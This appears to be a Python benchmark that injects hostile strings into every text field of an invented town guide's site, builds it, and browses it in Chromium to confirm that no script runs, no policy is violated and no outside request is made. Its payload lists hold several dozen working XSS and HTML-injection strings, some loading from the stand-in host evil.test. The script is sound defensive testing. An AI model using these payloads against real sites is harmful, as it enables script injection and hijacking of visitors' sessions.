"""Whether hostile text in any field does anything in a browser: python bench/hostile.py [rounds] [first].

Every field of an invented town's edition that takes text (asked of the models of guide/read, so that a field of tomorrow is
among them), and every body, is filled with a string that tries to become a script, a style, markup or a request. The edition
is built, every page of it is opened in Chromium under the published headers, its switches and boxes are used, and the search
is asked with the same strings. Counted are scripts that ran, violations of the policy, errors on the console and requests
elsewhere: all must be none. What the guide's own rules refuse is told, and a field that no string reached is a fault.

Each round gives each field another string; 30 rounds give each field all of them. The first is a test
(tests/browser/test_hostile.py).
"""

from __future__ import annotations

import copy
import datetime
import functools
import itertools
import re
import shutil
import sys
import tempfile
import tomllib
import zlib
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, get_args

import chrome
import yaml
from playwright.sync_api import Browser, Page
from pydantic import BaseModel, TypeAdapter, ValidationError
from pydantic.fields import FieldInfo

from guide import pipeline
from guide.publish import headers
from guide.read.edition import LISTS, PAGE_KINDS
from guide.read.findings import Finding, has_errors
from guide.read.settings import Config

HOME = chrome.HOME
SITE = HOME / "tests" / "sites" / "good"
DAY = datetime.date(2026, 3, 1)
# Each holds its own tag, by which a finding or a request tells where it came from.
STRINGS = (
    "<script>alert('{0}')</script>",
    "</title><script>alert('{0}')</script>",
    '"><img src=//evil.test/{0} onerror=alert(1)>',
    "'><svg/onload=alert('{0}')>",
    '" autofocus onfocus="alert(1)" x="{0}',
    "' onmouseover='alert(1)' x='{0}",
    "</script><script src=//evil.test/{0}.js></script>",
    "<!--{0}--><script>alert(1)</script>",
    "--><script>alert('{0}')</script><!--",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>{0}",
    "<object data=//evil.test/{0}>",
    "<base href=//evil.test/>{0}",
    "<meta http-equiv=refresh content='0;//evil.test/{0}'>",
    "<link rel=stylesheet href=//evil.test/{0}.css>",
    "<style>@import '//evil.test/{0}'</style>",
    "<form action=//evil.test/{0}><button>x",
    "<a href=javascript:alert('{0}')>x</a>",
    "<details open ontoggle=alert('{0}')>",
    "<template><script>alert('{0}')</script></template>",
    "<math><style></math><img src onerror=alert('{0}')>",
    "<noscript><p id='</noscript><img src onerror=x()>'>{0}",
    "]]><script>alert('{0}')</script>",
    "{{{{ {0}|safe }}}}{{% raw %}}<script>alert(1)</script>",
    "${{alert('{0}')}}`${{alert(1)}}`",
    "\\u003cscript\\u003ealert('{0}')\\u003c/script\\u003e",
    "&lt;script&gt;alert('{0}')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('{0}')&#62;",
    "javascript:alert('{0}')//",
    "__proto__ constructor toString {0}",
    "*/alert('{0}')/*';alert(1);//",
    "%3Cscript%3Ealert('{0}')%3C/script%3E",
)
# For fields that take addresses only.
ADDRESSES = (
    "https://evil.test/{0}'onmouseover='alert(1)",
    "https://evil.test/{0}?a=';alert(1);//&lt;script&gt;",
    "HTTPS://EVIL.TEST/{0}#');alert(1)//",
    "mailto:{0}'onclick='alert(1)@evil.test",
)
# In Markdown: as a paragraph, in a heading, a table, a quote, code, as the words of a link and as its target.
BODIES = (
    "{0}\n\n## {0}\n\n- {0}\n\n| {0} |\n|---|\n| {0} |\n",
    "> {0}\n\n    {0}\n\n`{0}`\n\n```{0}\n{0}\n```\n",
    "[{0}](https://evil.test/x'onclick='alert\\(1\\))\n\n<https://evil.test/{0}>\n",
    "[みなとの会](<https://evil.test/{0}>)\n\n[みなとの会][a]\n\n[a]: https://evil.test/ '{0}'\n",
    "{{{0}|よみ}}\n\n{{漢字|{0}}}\n",
)
PROBES = ("<b>'\"&", "https://evil.test/'x", "mailto:a'b@evil.test")
TAG = re.compile("zq[a-z]{4}qz")
# What must stand in a field where the edition has nothing: somebody who reads easy Japanese is told what to do.
SAID = {"easy": "{電話|でんわ}して ください。"}
# What a record says twice: a way to reach it, and where that was read.
TWINS = ("Way.value", "Address.text", "ContactSource.value")
# Findings that stand elsewhere than the text that they are about: somebody must answer at any hour.
ELSEWHERE = dict.fromkeys(("S003", "S006"), r"consultation/keisatsu: phones \d+ hours")
# What the edition does without, so that each field of each noun stands somewhere.
MORE: dict[str, dict[str, list[dict[str, Any]]]] = {
    "plan.yaml": {"rows": [{"measure": 1, "name": "米びつ便", "lines": "5", "record": "kome-bin"}]},
    "decisions.yaml": {
        "decisions": [{"id": "x", "name": "浜の会", "decision": "name", "target": "kome-bin", "why": "名前です。"}]
    },
    "accessibility.yaml": {
        "criteria": [{"id": "1.1.1", "name": "x", "level": "A", "jis": True, "method": "AC", "how": "機械で調べます。"}],
        "checks": [{"id": "koe", "what": "読み上げ", "criteria": ["1.1.1"], "by": "x", "date": "2026-02-01", "holds": True}],
    },
    "accessibility-results.yaml": {
        "runs": [{"id": "axe", "tool": "axe", "date": "2026-02-01", "pages": 1, "modes": ["x"], "faults": 0}]
    },
    "readings.yaml": {"readings": [{"word": "{漁師|りょうし}"}]},
    "concepts.yaml": {
        "concepts": [{"id": "kome", "name": "米", "words": ["米がない"], "leads_to": ["kome-bin"]}],
        "equals": [{"words": ["米", "お米"]}],
        "elsewhere": [{"id": "ryoken", "name": "旅券", "words": ["旅券"]}],
        "calm": [{"words": ["書き方"]}],
    },
    "signs.yaml": {"signs": [{"weight": -1.0}, {"route": "inochi", "weight": 1.0, "pieces": "助け"}]},
}


@dataclass(slots=True)
class Met:
    """What came of a round."""

    fields: set[str] = field(default_factory=set)  # that hold a hostile string in the published edition
    refused: dict[str, str] = field(default_factory=dict)  # fields that the guide's own rules refuse, with the code
    refusals: Counter[str] = field(default_factory=Counter)  # by code
    pages: int = 0
    questions: int = 0
    faults: Counter[str] = field(default_factory=Counter)


class Edition:
    """The invented town's edition as plain data, each text of it replaced by a hostile one."""

    def __init__(self, folder: Path, number: int) -> None:
        self.folder, self.number = folder, number
        self.where: dict[str, list[str]] = {}  # tag → the places that bear it
        self.named: dict[str, str] = {}  # place → its field, `Noun.field`
        self.twins: dict[tuple[str, str], str] = {}  # a record's file and what it says → what it says now
        self.spared: dict[str, str] = {}  # place → the code that refuses it
        self.tags = map("zq{}qz".format, map("".join, itertools.product("abcdefghijklmnopqrstuvwxyz", repeat=4)))
        self.reached: set[str] = set()

    def write(self) -> None:
        """All files anew, but for what is spared."""
        shutil.rmtree(self.folder, ignore_errors=True)
        shutil.copytree(SITE, self.folder, ignore=shutil.ignore_patterns("expected"))
        self.where, self.named, self.twins, self.reached = {}, {}, {}, set()
        content = self.folder / "content"
        for kind, model in PAGE_KINDS.items():
            for path in sorted((content / kind).glob("*.md")):
                _, head, body = path.read_text(encoding="utf-8").split("---\n", 2)
                data = self.filled(model, enriched(model, yaml.safe_load(head)), f"{kind}/{path.stem}:")
                text = self.body(f"{kind}/{path.stem}: body", body)
                path.write_text(f"---\n{dumped(data)}---\n{text}", encoding="utf-8")
        for name, kinds in LISTS.items():
            path = content / name
            data = {**MORE.get(name, {}), **(yaml.safe_load(path.read_text(encoding="utf-8")) if path.exists() else {})}
            if data:
                rows = {
                    kind: [self.filled(model, row, f"{name} {n}:") for n, row in enumerate(data[kind])] for kind, model in kinds
                }
                path.write_text(dumped(rows), encoding="utf-8")
        config = tomllib.loads((self.folder / "site.toml").read_text(encoding="utf-8"))
        (self.folder / "site.toml").write_text(as_toml(self.filled(Config, config, "site.toml:")), encoding="utf-8")

    def filled(self, model: type[BaseModel], data: dict[str, Any], at: str) -> dict[str, Any]:
        """The same noun with a hostile string in each field that takes one."""
        made = copy.copy(data)
        for name, info in model.model_fields.items():
            key, here, inner = info.alias or name, f"{at} {info.alias or name}", noun(info.annotation)
            if inner is not None:
                if isinstance(made.get(key), list):
                    made[key] = [self.filled(inner, item, f"{here} {n}") for n, item in enumerate(made[key])]
                elif info.annotation is inner:  # a table of site.toml, there or not
                    made[key] = self.filled(inner, made.get(key, {}), here)
                continue
            self.named[here] = f"{model.__name__}.{name}"
            if here not in self.spared and (texts := self.texts(info, here, made.get(key))) is not None:
                made[key] = texts
                self.reached.add(self.named[here])
        return made

    def texts(self, info: FieldInfo, here: str, now: object) -> object:
        """What a field holds now; None for one that takes no text of ours."""
        for number, probe in enumerate(PROBES):
            strings = (STRINGS, ADDRESSES[:3], ADDRESSES[3:])[number]
            if takes(info, probe):
                if self.named[here] in TWINS:
                    return self.twin(here, str(now))
                string = self.hostile(strings, here)
                longer = f"{string}。{now or SAID.get(here.rpartition(' ')[2], '')}"  # what rules may ask for
                return longer if number == 0 and takes(info, longer) else string
            if takes(info, (probe, probe)):
                return [self.hostile(strings, here) for _ in range(max(2, len(now) if isinstance(now, list) else 0))]
        return None

    def twin(self, here: str, now: str) -> str | None:
        """The same string wherever a record says the same: a way, and where it was read."""
        if re.fullmatch("#?[0-9-]+", now):  # a telephone number, which is no text
            return None
        key = (here.partition(":")[0], now)
        self.twins[key] = self.twins.get(key) or self.hostile(STRINGS + ADDRESSES, here)
        self.where[TAG.findall(self.twins[key])[0]].append(here)
        return self.twins[key]

    def hostile(self, strings: tuple[str, ...], here: str) -> str:
        """The string whose turn it is, by its tag known to be of this place."""
        tag = next(self.tags)
        self.where[tag] = [here]
        return self.turn(strings, here).format(tag)

    def turn(self, strings: tuple[str, ...], here: str) -> str:
        """Of some strings the one whose turn it is at a place, whatever stands at others."""
        return strings[(self.number + zlib.crc32(here.encode())) % len(strings)]

    def body(self, here: str, body: str) -> str:
        """A body of hostile text, at its end the one that was there, for what leads to it."""
        if here in self.spared:
            return body
        form, string = self.turn(BODIES, here), self.hostile(STRINGS, here)
        self.reached.add("body")
        return f"{form.format(string)}\n{body}"

    def spare(self, found: list[Finding], texts: dict[str, str]) -> bool:
        """Spare the fields that findings are about. False when one is about none of them."""
        before = len(self.spared)
        for finding in found:
            lines = texts.get(finding.place.file, "").split("\n")
            near = "\n".join(lines[max(0, finding.place.line - 1) : finding.place.line])
            tags = TAG.findall(finding.message) or TAG.findall(near) or TAG.findall(finding.hint)
            meant = [here for tag in tags for here in self.where[tag]]
            if finding.code in ELSEWHERE:
                meant += [here for here in self.named if re.fullmatch(ELSEWHERE[finding.code], here)]
            for here in meant:
                self.spared.setdefault(here, finding.code)
        return len(self.spared) > before


def noun(annotation: object) -> type[BaseModel] | None:
    """The noun that a field holds, one or several of."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return annotation
    return next((found for part in get_args(annotation) if (found := noun(part))), None)


@functools.cache
def _adapter(model_field: int) -> TypeAdapter[Any]:
    return TypeAdapter(_KEPT[model_field].rebuild_annotation())


_KEPT: dict[int, FieldInfo] = {}


def takes(info: FieldInfo, value: object) -> bool:
    """Whether the type of a field lets a value through."""
    _KEPT[id(info)] = info
    try:
        _adapter(id(info)).validate_python(value, strict=True)
    except ValidationError:
        return False
    return True


def every_text() -> set[str]:
    """All fields of all nouns that would take a hostile string, `Noun.field`."""
    found: set[str] = set()
    known: set[type[BaseModel]] = set()

    def walk(model: type[BaseModel]) -> None:
        if model in known:
            return
        known.add(model)
        for name, info in model.model_fields.items():
            if inner := noun(info.annotation):
                walk(inner)
            elif any(takes(info, given) for probe in PROBES for given in (probe, (probe, probe))):
                found.add(f"{model.__name__}.{name}")

    for model in (*PAGE_KINDS.values(), *(model for kinds in LISTS.values() for _, model in kinds), Config):
        walk(model)
    return found | {"body"}


def enriched(model: type[BaseModel], data: dict[str, Any]) -> dict[str, Any]:
    """A record with what the edition's own leave out: other ways, places, windows in a case."""
    if model.__name__ != "Window" or not data.get("phones") or not data.get("contacts"):
        return data
    contact = {**data["contacts"][0], "value": "入力", "seen": "入力"}
    way = {"kind": "form", "value": "入力", "note": "夜も", "contact": contact["id"]}
    more = {"contacts": [*data["contacts"], contact], "ways": [*data.get("ways", []), way]}
    return {"in_case": [{"window": "yakuba", "when": "夜"}], **data, **more}


def dumped(data: object) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)


def as_toml(config: dict[str, Any]) -> str:
    return "\n".join(
        f"[{table}]\n" + "".join(f"{key} = {_toml(value)}\n" for key, value in values.items()) for table, values in config.items()
    )


def _toml(value: object) -> str:
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, list):
        return f"[{', '.join(map(_toml, value))}]"
    if isinstance(value, str):
        return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
    return str(value)


def publish(edition: Edition, out: Path) -> None:
    """Build the edition, sparing what the rules refuse."""
    for _ in range(60):
        edition.write()
        job = pipeline.Job(edition.folder, HOME, out, DAY)
        result = pipeline.build(job)
        if result.published:
            return
        errors = [finding for finding in result.findings if finding.level == "error"]
        assert has_errors(result.findings)
        if not edition.spare(errors, dict(result.texts)):
            raise RuntimeError(f"not about a hostile string: {errors[:3]}")
    raise RuntimeError("no end of findings")


class Handler(chrome.Handler):
    """The published headers on everything, but for the one that asks for https."""

    def end_headers(self) -> None:
        for name, value in headers.EVERYWHERE.items():
            if name != "Strict-Transport-Security":
                self.send_header(name, value)
        super().end_headers()


INIT = """
for (const name of ["alert", "confirm", "prompt"]) window[name] = () => console.error("ran a script");
addEventListener("securitypolicyviolation", (e) => console.error("violation", e.violatedDirective, e.blockedURI, e.sample));
"""
USE = """() => {
  if (Object.keys(Object.prototype).length) console.error("prototype");
  document.querySelectorAll("details").forEach((box) => { box.open = true; });
  document.querySelectorAll("main a, main button").forEach((one) => {
    for (const kind of ["mouseover", "focus"]) one.dispatchEvent(new Event(kind, { bubbles: true }));
  });
  for (const select of document.querySelectorAll("select")) {
    select.selectedIndex = select.options.length - 1;
    select.dispatchEvent(new Event("change", { bubbles: true }));
  }
  document.querySelector("[data-module=furigana][aria-pressed=false]")?.click();
}"""


def browse(browser: Browser, address: str, public: Path, questions: list[str], met: Met) -> None:
    """Open every page and use it; ask the search. What should not be is noted in `met`."""
    context = browser.new_context(viewport={"width": 360, "height": 740}, locale="ja-JP")
    context.add_init_script(INIT)
    page = context.new_page()
    where = [""]
    page.on("console", lambda m: m.type in ("error", "warning") and met.faults.update([f"{where[0]}: {m.text[:200]}"]))
    page.on("pageerror", lambda e: met.faults.update([f"{where[0]}: {e}"]))
    page.on("dialog", lambda d: (met.faults.update([f"{where[0]}: dialog"]), d.dismiss()))
    page.on("request", lambda r: r.url.startswith(address) or met.faults.update([f"{where[0]}: asked {r.url[:100]}"]))
    context.on("page", lambda other: other is page or met.faults.update([f"{where[0]}: another page"]))
    for file in sorted(public.rglob("*.html")):
        where[0] = file.relative_to(public).as_posix()
        page.goto(address + where[0].removesuffix("index.html"), wait_until="load")
        page.evaluate(USE)
        met.pages += 1
    for question in questions:
        where[0] = f"search {question}"
        ask(page, address, question)
        met.questions += 1
    page.wait_for_timeout(500)  # what comes late
    context.close()


def ask(page: Page, address: str, question: str) -> None:
    page.goto("about:blank")
    page.goto(f"{address}search/")
    page.evaluate("(question) => { location.hash = `q=${encodeURIComponent(question)}`; }", question)
    done = page.locator("#search-results[data-state=done]")
    done.wait_for(state="attached")
    if (deeper := page.locator("button.g-deeper")).is_visible():  # the words of pages, by Pagefind
        deeper.click()
        done.wait_for(state="attached")
    page.evaluate(USE)


def one_round(browser: Browser, number: int) -> Met:
    """The edition with its strings of this round, built and browsed."""
    met = Met()
    with tempfile.TemporaryDirectory() as folder:
        edition, public = Edition(Path(folder) / "edition", number), Path(folder) / "public"
        publish(edition, public)
        met.refused = {edition.named.get(here, "body"): code for here, code in edition.spared.items()}
        met.refusals = Counter(edition.spared.values())
        met.fields = edition.reached
        tags = [tag for tag, places in edition.where.items() if "name" in places[0] or "words" in places[0]]
        questions = [string.format(tags[number % len(tags)]) for number, string in enumerate(STRINGS)]
        with chrome.served(public, Handler) as address:
            browse(browser, address, public, questions, met)
    return met


def main(rounds: int = len(STRINGS), first: int = 0) -> int:
    left, never, faults, refusals = every_text(), set[str](), Counter[str](), Counter[str]()
    everything, pages, questions = len(left), 0, 0
    with chrome.chromium() as browser:
        for number in range(first, first + rounds):
            met = one_round(browser, number)
            left -= met.fields
            never |= met.refused.keys()
            faults, refusals = faults + met.faults, refusals + met.refusals
            pages, questions = pages + met.pages, questions + met.questions
    for fault, times in faults.most_common(40):
        print(f"{times} × {fault}")
    print(f"{rounds} rounds of {len(STRINGS)} strings in {everything} fields that take text")
    print(f"refused by rules, places: {dict(refusals.most_common())}; fields without any: {sorted(left & never)}")
    print(f"fields that no string reached: {sorted(left - never)}")
    print(f"{pages} pages, {questions} questions: {faults.total()} scripts, violations, errors or requests elsewhere")
    return int(bool(faults or left - never))


if __name__ == "__main__":
    sys.exit(main(*map(int, sys.argv[1:3])))
